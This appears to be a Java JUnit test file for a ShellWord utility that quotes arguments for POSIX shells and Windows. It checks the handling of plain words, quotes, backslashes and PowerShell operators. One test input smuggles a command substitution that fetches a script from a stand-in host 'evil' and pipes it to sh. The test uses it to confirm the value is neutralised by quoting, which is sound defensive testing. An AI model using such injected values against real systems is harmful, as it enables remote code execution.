package io.tokenform.access;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellWordTest {
  @ParameterizedTest
  @ValueSource(strings = {"tokens.yaml", "/srv/a-b/c_d.jsonl", "https://influx.example.com:8086"})
  void whatAShellReadsAsItIsStaysSo(String text) {
    assertThat(ShellWord.of(text)).isEqualTo(text);
  }

  @Test
  void whatAShellWouldActOnIsQuoted() {
    assertThat(ShellWord.of("j-$(curl evil|sh).jsonl", Os.POSIX))
        .isEqualTo("'j-$(curl evil|sh).jsonl'");
    assertThat(ShellWord.of("it's mine", Os.POSIX)).isEqualTo("'it'\\''s mine'");
    assertThat(ShellWord.of("", Os.POSIX)).isEqualTo("''");
    assertThat(ShellWord.of("~/x", Os.POSIX)).isEqualTo("'~/x'");
    assertThat(ShellWord.of("a\\b", Os.POSIX)).isEqualTo("'a\\b'");
  }

  @ParameterizedTest
  @ValueSource(strings = {"plan.json", "a\\b.yaml", "C:\\tokens\\", "--out=x", "grafana"})
  void onWindowsAPlainWordStaysAsItIs(String text) {
    assertThat(ShellWord.of(text, Os.WINDOWS)).isEqualTo(text);
  }

  @Test
  void onWindowsAnyOtherStandsInTheQuotesThatProgramsKnow() {
    assertThat(ShellWord.of("it's mine", Os.WINDOWS)).isEqualTo("\"it's mine\"");
    assertThat(ShellWord.of("", Os.WINDOWS)).isEqualTo("\"\"");
    assertThat(ShellWord.of("a&b", Os.WINDOWS)).isEqualTo("\"a&b\"");
    // Both would be operators of PowerShell.
    assertThat(ShellWord.of("a,b", Os.WINDOWS)).isEqualTo("\"a,b\"");
    assertThat(ShellWord.of("@a", Os.WINDOWS)).isEqualTo("\"@a\"");
  }

  @Test
  void onWindowsBackslashesAreDoubledOnlyBeforeAQuotationMark() {
    assertThat(ShellWord.of("a \\ b\\", Os.WINDOWS)).isEqualTo("\"a \\ b\\\\\"");
    assertThat(ShellWord.of("say \"hi\"", Os.WINDOWS)).isEqualTo("\"say \\\"hi\\\"\"");
    assertThat(ShellWord.of("\\\"", Os.WINDOWS)).isEqualTo("\"\\\\\\\"\"");
  }
}
